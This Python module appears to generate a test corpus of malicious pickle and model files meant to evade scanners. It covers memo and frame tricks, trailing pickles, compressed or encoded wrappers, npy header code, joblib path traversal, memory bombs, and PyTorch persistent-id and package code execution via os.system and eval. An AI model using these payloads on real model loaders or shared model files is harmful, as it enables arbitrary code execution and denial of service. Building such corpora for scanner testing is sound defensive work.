"""Pickles whose opcodes, wrappers or neighbours are odd, so that a reader may lose the thread."""

# ruff: noqa: E501, S108 - one technique a line, however long; paths in payloads that nothing runs

import base64
import pickle
import struct
import zlib

from .kit import EVIL, MARK, call, literal, name_of, npy, program, technique, torch_zip, zipped

ECHO = f"echo {MARK}"
PLAIN = pickle.dumps({"weights": [1.0, 2.0]}, 4)
_MACHINE = "CPython, Lib/pickle.py and Modules/_pickle.c: what the machine accepts"
_SPLIT = "picklescan, issue of a pickle after the first (streams of several pickles)"


@technique(_MACHINE, "global")
def name_left_by_another_name():
    """The memo's slot is filled twice; the reader who keeps the first reads another name."""
    return program(
        literal("collections") + b"q\x01" + literal("posix") + b"q\x01" + b"00",
        b"h\x01" + literal("system") + b"\x93" + literal((ECHO,)) + b"R",
    )


@technique(_MACHINE, "global")
def protocol_said_twice():
    return b"\x80\x04\x80\x02\x80\x04" + EVIL[2:]


@technique(_MACHINE, "global")
def frame_that_lies():
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + EVIL[2:]


@technique(_MACHINE, "global")
def frame_after_frame():
    inner = EVIL[2:]
    return (
        b"\x80\x04"
        + b"".join(b"\x95" + struct.pack("<Q", 1) + inner[i : i + 1] for i in range(0))
        + b"\x95"
        + struct.pack("<Q", len(inner))
        + inner
    )


@technique(_MACHINE, "malformed")
def string_longer_than_the_file():
    return b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"abc" + EVIL[2:]


@technique("fickling, expansion attack analysis (billion laughs by DUP and memo)", "bomb")
def tuples_doubled_and_hashed():
    doubled = b")" + b"".join(b"2\x86" for _ in range(60))
    return program(b"}", doubled, b"Ns")


@technique("CWE-789, allocation with a size of the attacker's choice", "bomb")
def terabyte_of_zeros():
    return program(call(name_of("builtins", "bytearray"), literal(1 << 40)))


@technique("CWE-789, allocation with a size of the attacker's choice", "bomb")
def terabyte_of_numbers():
    return program(call(name_of("numpy", "ndarray"), literal((1 << 40,)), literal("f8")))


@technique(_SPLIT, "global")
def second_pickle_after_padding():
    return PLAIN + b"\x00" * 5000 + EVIL


@technique("joblib, numpy_pickle_compat.py: the old layout with the array in a file beside it", "path")
def joblib_file_beside_outside():
    return program(
        name_of("joblib.numpy_pickle", "NDArrayWrapper"),
        b")\x81",
        literal({"filename": "../../../tmp/evil.npy", "subclass": None, "allow_mmap": True}),
        b"b",
        protocol=2,
    )


@technique("joblib, numpy_pickle_compat.py: ZNDArrayWrapper names a file and a state", "path")
def joblib_compressed_file_beside():
    return program(
        name_of("joblib.numpy_pickle_compat", "ZNDArrayWrapper"),
        b")\x81",
        literal({"filename": "/tmp/evil.z", "init_args": None, "state": None}),
        b"b",
        protocol=2,
    )


@technique("joblib, numpy_pickle.py: an array of objects is a pickle of its own within the stream", "global")
def joblib_array_of_objects():
    state = b"}("
    for key, value in {"shape": (1,), "order": "C", "allow_mmap": False}.items():
        state += literal(key) + literal(value)
    state += literal("subclass") + name_of("numpy", "ndarray")
    state += (
        literal("dtype")
        + call(name_of("numpy", "dtype"), literal("O8"), literal(False), literal(True))
        + b"ub"
    )
    return (
        program(name_of("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state)[:-1]
        + EVIL[2:-1]
        + b"."
    )


_WRAP = "pandas, read_pickle and joblib, load: compression by content or name"


@technique("RFC 1952, 2.3.1: an extra field and a name before the data", "global", "model.gz")
def gzip_with_extra_field():
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(EVIL) + body.flush()
    head = b"\x1f\x8b\x08\x0c" + b"\0" * 6 + struct.pack("<H", 4) + b"PK\x03\x04" + b"model.safetensors\0"
    return head + data + struct.pack("<II", zlib.crc32(EVIL), len(EVIL))


@technique(
    "MITRE ATLAS AML.T0011.000; pickles carried as text by many loaders", "unknown format", "model.b64"
)
def base64_of_a_pickle():
    return base64.b64encode(EVIL) + b"\n"


@technique("ncompress .Z, which pickle-loading code opens with unlzw", "unknown format", "model.pkl.Z")
def compress_z():
    return b"\x1f\x9d\x90" + EVIL


_NPY = "NumPy, lib/format.py: read_array with allow_pickle"


@technique(_NPY, "global", "x.npy")
def objects_with_a_header_of_version_3():
    return npy("'|O'", "(1,)", EVIL, b"\x03\x00")


@technique(_NPY, "malformed", "x.npy")
def array_and_a_pickle_after_it():
    return npy("'<f8'", "(2,)", b"\0" * 16 + EVIL)


@technique("NumPy, lib/npyio.py: load falls back to pickle without the magic", "global", "x.npy")
def npy_that_is_a_pickle():
    return EVIL


@technique(
    "NumPy before 1.17 evaluated headers; a header is a literal and nothing else", "malformed", "x.npy"
)
def header_that_is_code():
    return npy("__import__('os').system('echo')", "(1,)", b"\0" * 8)


_TORCH = "PyTorch, torch/serialization.py"


@technique(_TORCH + ": _legacy_load reads five pickles one after another", "global", "model.pt")
def torch_legacy_third_pickle():
    head = [pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001)]
    return b"".join(head) + EVIL + pickle.dumps({}, 2) + pickle.dumps([], 2)


@technique(_TORCH + ": a persistent id of the kind module carries source code", "global", "model.pt")
def torch_legacy_module_with_source():
    head = [pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    ident = b"(" + literal("module") + name_of("builtins", "eval") + literal("x.py") + literal(CODE) + b"tQ"
    return b"".join(head) + program(ident, protocol=2) + pickle.dumps([], 2)


CODE = f"print('{MARK}')"


@technique(_TORCH + ": persistent ids are made of whatever the pickle pushes", "global", "model.pt")
def torch_persistent_id_called():
    ident = (
        b"("
        + literal("storage")
        + call(name_of("posix", "system"), literal(ECHO))
        + literal("0")
        + literal("cpu")
        + literal(1)
        + b"tQ"
    )
    return torch_zip(program(ident, protocol=2), data__0=b"\0" * 4)


@technique(
    "PyTorch, torch/_export/serde: symbolic expressions were read by sympify, which evaluates",
    "remote code",
    "model.pt2",
)
def expression_in_a_pt2():
    program_json = b'{"range_constraints": {"__import__(\'os\').system(\'echo\')": {"min_val": 0}}, "schema_version": {"major": 8}}'
    return zipped({"m/archive_format": b"pt2", "m/models/model.json": program_json, "m/version": b"3\n"})


@technique("PyTorch, torch.package: sources within the archive are imported", "remote code", "model.pt")
def package_with_sources():
    return zipped(
        {
            "p/.data/extern_modules": b"os\n",
            "p/.data/version": b"6\n",
            "p/evil.py": b"import os\nos.system('echo')\n",
            "p/model/model.pkl": program(name_of("<torch_package_0>.evil", "Model"), b")\x81", protocol=2),
        }
    )


def _skops(schema: str, **members: bytes) -> bytes:
    return zipped({"schema.json": schema.encode()} | members)


@technique("CVE-2025-54886, skops: Card.get_model falls back to joblib", "global", "m.skops")
def skops_that_is_joblib():
    return EVIL
